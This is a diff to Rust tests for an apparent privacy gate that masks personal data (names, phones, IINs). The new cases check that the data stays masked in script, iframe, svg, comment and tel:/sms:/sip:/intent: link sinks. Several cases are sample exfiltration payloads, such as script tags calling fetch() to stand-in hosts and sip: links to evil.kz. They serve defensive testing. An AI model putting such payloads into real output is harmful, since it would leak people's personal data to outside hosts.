@@ -92,6 +92,22 @@ fn tokens_stay_in_sinks() {
         "<script>fetch('https://e/?q=' + '{person}')</script>",
         "<SCRIPT src=x>\nx('{person}')",
         "<style>@import '{person}';</style>",
+        "<script>fetch(\"https://e.kz/\"+\"{PERSON}\")</script>",
+        "<script type=module>x('{PERSON}')</scripty></ script>'{IIN}'",
+        "<script a=\"</script>\">x('{PERSON}')</script>",
+        "<script>x</style></template>'{person}'",
+        "<script><!-- <script></script> '{person}'",
+        "<svg:script>'{person}'</svg:script>",
+        "<template><p>{PERSON}</p></template>",
+        "<template><template></template>{PERSON}</template>",
+        "<template><!-- </template> --><i>{PERSON}</i></template>",
+        "<iframe src='https://e/'>{PERSON}</iframe>",
+        "<object data=x><p>{person}</p></object>",
+        "<svg viewBox='0 0 1 1'><svg/><text>{PERSON}</text></svg>",
+        "<svg><a><text>{PERSON}",
+        "<!--[if mso]><p>{PERSON}</p><![endif]-->",
+        "<!-- a > b {PERSON} -->",
+        "<!-- <script> --> '{person}' </script>",
         "<img src=\"https://e/?q=\n\n{person}\">",
         "<img alt=\"\n\n\" data-x=\"{person}\">",
         "<client onclick=\"f('{person}')\">",
@@ -131,6 +147,22 @@ fn tokens_stay_in_sinks() {
         "evil.рф/{person}",
         "10.20.30.40/{person}",
         "localhost/{person}",
+        "[позвонить](tel:{PHONE})",
+        "[sms](sms:{person})",
+        "[x](sip:{PERSON}) ",
+        "[x](whatsapp:{PHONE})",
+        "[x](<geo:{person}>)",
+        "<a href=\"tel:{PHONE}\">x</a>",
+        "<a href='sms:{person}'>x</a>",
+        "<tel:{PHONE}>",
+        "[1]: tel:{PHONE}",
+        "tel://{PHONE}",
+        "whatsapp://send?text={PERSON}",
+        "sms:+77010000000?body={PERSON}",
+        "geo:0,0?q={PERSON}",
+        "sip:{person}@evil.kz",
+        "intent:{PHONE}",
+        "intent:#Intent;S.browser_fallback_url=e;x={person}",
         "mailto:{person}",
         "mailto:x@e.com?subject={person}",
         "data:text/html,{person}",
@@ -206,6 +238,17 @@ fn tokens_are_restored_in_ordinary_text() {
         "<client name=\"{PERSON}\" iin='{IIN}'/>",
         "<v8:Client fio = \"{PERSON}\">{PHONE}</v8:Client>",
         "<script>x()</script>{PERSON}",
+        "<script src='x'></SCRIPT >{PERSON}",
+        "<style>p > a</style><p>{PERSON}</p>",
+        "<script><!-- <script></script> --></script>{PERSON}",
+        "<svg><path d='M0'/></svg>{PERSON}",
+        "<svg class=x /> {PERSON}",
+        "<template>x</template> {PERSON} <iframe></iframe> {PHONE}",
+        "<!-- x -->{PERSON}<!---->{PHONE}<!-->{IIN}",
+        "<!--[if mso]><br><![endif]-->{PERSON}",
+        "<scripted>{PERSON}</scripted>",
+        "<svg-icon>{PERSON}</svg-icon>",
+        "</script>{PERSON}</svg>{PHONE}",
         "{PERSON}.It is so",
         "{PERSON}.Сайт открыт",
         "x <- {PERSON}",
@@ -225,6 +268,17 @@ fn tokens_are_restored_in_ordinary_text() {
         "[x] {PERSON}",
         "Тел:{PHONE}",
         "tel:{PHONE}",
+        "тел:{PHONE}",
+        "тел.:{PHONE}, {PERSON}",
+        "tel: {PHONE}",
+        "TEL:{PHONE}.",
+        "sms:{PHONE}",
+        "СМС:{PHONE}",
+        "sip:{PHONE}",
+        "sip:{EMAIL}",
+        "whatsapp:{PHONE}",
+        "geo:{PERSON}",
+        "[тел.] tel:{PHONE}",
         "WhatsApp:{PHONE}",
         "R&D:{PERSON}",
         "{PERSON}-{PHONE}",
@@ -299,6 +353,40 @@ fn long_paddings_do_not_hide_a_url() {
     let request = request();
     let target = format!("[t]({}{}", " ".repeat(800), request.fill("{person})"));
     assert_eq!(request.tokens.restore(&target), target);
+}
+
+#[test]
+fn the_content_of_an_element_is_a_sink_at_any_length() {
+    let padding = "let a = 1; // b < c\n\n".repeat(400);
+    for opening in [
+        "<script>",
+        "<SCRIPT\n async>",
+        "<style>",
+        "<template>",
+        "<svg>",
+        "<iframe>",
+        "<object>",
+        "<!-- ",
+        "<script>\n```js\n</script>\n",
+        "<script>x(`</script>",
+    ] {
+        let request = request();
+        let text = format!("Готово.\n{opening}{padding}{}", request.fill("f('{PERSON}', {iin})\n"));
+        assert_eq!(request.tokens.restore(&text), text, "{opening}");
+        let pieces: Vec<String> = text.chars().map(String::from).collect();
+        assert_eq!(in_pieces(&request.tokens, pieces.iter().map(String::as_str)), text, "{opening}");
+    }
+    for shown in [
+        "```html\n<script>{}\n```\n",
+        "Тег `<script>` и ещё {}",
+        "~~~\n<!-- {}",
+        "<script>{}</script>",
+        "<svg {}/>",
+    ] {
+        let request = request();
+        let text = shown.replace("{}", &padding) + &request.fill("{PERSON}");
+        assert_eq!(request.tokens.restore(&text), text.replace(&request.fill("{PERSON}"), PERSON), "{shown}");
+    }
 }
 
 /// What a reader's software would make links of, told by other means than the gate's own: bare
